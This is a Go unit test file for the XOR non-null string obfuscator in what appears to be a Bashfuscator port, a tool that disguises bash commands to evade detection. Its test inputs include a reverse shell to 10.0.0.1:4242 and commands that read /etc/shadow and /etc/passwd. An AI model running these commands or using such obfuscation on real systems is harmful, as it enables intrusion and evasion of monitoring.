package stringobf

import (
	"strings"
	"testing"

	"github.com/Tim1512/Bashfuscator/internal/mutator"
	"github.com/Tim1512/Bashfuscator/internal/randomness"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestInitialKeyLen(t *testing.T) {
	tests := []struct {
		name       string
		sizePref   int
		commandLen int
		want       int
	}{
		{name: "pref 1 short command", sizePref: 1, commandLen: 6, want: 1},
		{name: "pref 1 long command", sizePref: 1, commandLen: 250, want: 3},
		{name: "pref 2 short command", sizePref: 2, commandLen: 6, want: 1},
		{name: "pref 2 long command", sizePref: 2, commandLen: 250, want: 26},
		{name: "pref 3 is one key byte per character", sizePref: 3, commandLen: 6, want: 6},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := initialKeyLen(tt.sizePref, tt.commandLen)
			require.NoError(t, err)
			assert.Equal(t, tt.want, got)
		})
	}
}

func TestInitialKeyLen_InvalidPref(t *testing.T) {
	_, err := initialKeyLen(0, 10)
	assert.ErrorIs(t, err, ErrInvalidSizePref)
}

// assertStrideSafe verifies the key invariant: no key byte equals any command
// byte at its stride, so XOR never yields a null byte.
func assertStrideSafe(t *testing.T, command string, key []byte) {
	t.Helper()
	for i := 0; i < len(command); i++ {
		assert.NotEqual(t, key[i%len(key)], command[i],
			"key byte %d collides with command offset %d", i%len(key), i)
	}
}

func TestTryGenerateKey_StrideSafety(t *testing.T) {
	rand := randomness.NewProvider(13)
	commands := []string{
		"ls -la",
		"cat /etc/shadow",
		"echo $((1+2)) | tee /dev/null",
		strings.Repeat("uname -a;", 40),
	}

	for _, command := range commands {
		for keyLen := 1; keyLen <= len(command); keyLen *= 2 {
			key := tryGenerateKey(rand, command, keyLen)
			require.NotNil(t, key, "command %q keyLen %d", command, keyLen)
			require.Len(t, key, keyLen)
			assertStrideSafe(t, command, key)
			for _, b := range key {
				assert.Contains(t, randomness.AllowedChars, string(b))
			}
		}
	}
}

func TestTryGenerateKey_ImpossibleLength(t *testing.T) {
	// With key length 1, a command containing the entire allowed set leaves
	// no substitute character: generation at this length must fail softly.
	rand := randomness.NewProvider(13)

	key := tryGenerateKey(rand, randomness.AllowedChars, 1)
	assert.Nil(t, key)
}

func TestGenerateKey_GrowsPastImpossibleLengths(t *testing.T) {
	// Length 1 is impossible for the full allowed set; the search must move
	// on and succeed at length 2.
	ctx := newTestContext(1)

	key, err := generateKey(ctx, randomness.AllowedChars, 1)
	require.NoError(t, err)
	assert.Len(t, key, 2)
	assertStrideSafe(t, randomness.AllowedChars, key)
}

func TestGenerateKey_Exhaustion(t *testing.T) {
	ctx := newTestContext(1)
	ctx.MaxAttempts = 1

	_, err := generateKey(ctx, randomness.AllowedChars, 1)
	assert.ErrorIs(t, err, ErrKeyGenerationExhausted)
}

func TestXorNonNull_Scenario_LsLaLowestPreference(t *testing.T) {
	// "ls -la" with the lowest preference: initial key length 1, retried
	// upward until a null-byte-safe key exists; the emitted decode loop must
	// mirror the encode indexing.
	ctx := newTestContext(1)
	payload, err := NewXorNonNull().Mutate(ctx, "ls -la")
	require.NoError(t, err)

	assert.Regexp(t, `for +\(\( *[a-z][a-z0-9]* *= *0`, payload)
	assert.Contains(t, payload, "do")
	assert.Regexp(t, `done ?[;\n]`, payload)
	assert.Regexp(t, `\\?perl +-e`, payload)
}

func TestXorNonNull_CipherNeverContainsNullByte(t *testing.T) {
	commands := []string{
		"id",
		"ls -la",
		"0", // single character equal to a key-set member
		strings.Repeat("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1;", 12),
	}

	for _, command := range commands {
		for pref := 1; pref <= 3; pref++ {
			ctx := newTestContext(pref)
			keyLen, err := initialKeyLen(pref, len(command))
			require.NoError(t, err)
			key, err := generateKey(ctx, command, keyLen)
			require.NoError(t, err)

			for i := 0; i < len(command); i++ {
				assert.NotZero(t, command[i]^key[i%len(key)],
					"null cipher byte for %q pref %d offset %d", command, pref, i)
			}
		}
	}
}

func TestXorNonNull_DecodeMirrorsEncode(t *testing.T) {
	// Go-side mirror of the generated decode loop: XORing the cipher with
	// key[i mod len(key)] must reproduce the command.
	command := "cat /etc/passwd | grep -v nologin"
	ctx := newTestContext(2)

	keyLen, err := initialKeyLen(ctx.SizePref, len(command))
	require.NoError(t, err)
	key, err := generateKey(ctx, command, keyLen)
	require.NoError(t, err)

	cipher := make([]byte, len(command))
	for i := 0; i < len(command); i++ {
		cipher[i] = command[i] ^ key[i%len(key)]
	}

	decoded := make([]byte, len(cipher))
	for i := 0; i < len(cipher); i++ {
		decoded[i] = cipher[i] ^ key[i%len(key)]
	}
	assert.Equal(t, command, string(decoded))
}

func TestXorNonNull_EmitsBothAssignmentsAndGuards(t *testing.T) {
	payload, err := NewXorNonNull().Mutate(newTestContext(3), "ls -la")
	require.NoError(t, err)

	// Two literal assignments before the loop, four quote/backslash guards
	// inside it.
	assert.GreaterOrEqual(t, strings.Count(payload, "='"), 2)
	assert.GreaterOrEqual(t, strings.Count(payload, "&&"), 4)
	assert.GreaterOrEqual(t, strings.Count(payload, `"'"`), 2)
	assert.GreaterOrEqual(t, strings.Count(payload, `"\\"`), 2)
}

func TestXorNonNull_EmptyCommand(t *testing.T) {
	_, err := NewXorNonNull().Mutate(newTestContext(1), "")
	assert.ErrorIs(t, err, mutator.ErrEmptyCommand)
}

func TestXorNonNull_NullByteRejected(t *testing.T) {
	_, err := NewXorNonNull().Mutate(newTestContext(1), "id\x00")
	assert.ErrorIs(t, err, mutator.ErrNullByte)
}

func TestXorNonNull_InvalidSizePref(t *testing.T) {
	_, err := NewXorNonNull().Mutate(newTestContext(9), "id")
	assert.ErrorIs(t, err, ErrInvalidSizePref)
}

func TestXorNonNull_Spec(t *testing.T) {
	spec := NewXorNonNull().Spec()

	assert.Equal(t, "xor_non_null", spec.Name)
	assert.Equal(t, []string{"perl"}, spec.Binaries)
	assert.False(t, spec.FileWrite)
}

func FuzzXorKeyNeverProducesNullByte(f *testing.F) {
	f.Add("ls -la", 1)
	f.Add("id", 3)
	f.Add(randomness.AllowedChars, 2)
	f.Fuzz(func(t *testing.T, command string, pref int) {
		if command == "" || strings.IndexByte(command, 0) >= 0 {
			t.Skip()
		}
		if pref < 1 || pref > 3 {
			t.Skip()
		}

		ctx := newTestContext(pref)
		keyLen, err := initialKeyLen(pref, len(command))
		require.NoError(t, err)

		key, err := generateKey(ctx, command, keyLen)
		if err != nil {
			// A bounded search may legitimately exhaust on adversarial
			// inputs; it must fail loudly, never hang or return a bad key.
			require.ErrorIs(t, err, ErrKeyGenerationExhausted)
			return
		}
		for i := 0; i < len(command); i++ {
			require.NotZero(t, command[i]^key[i%len(key)])
		}
	})
}
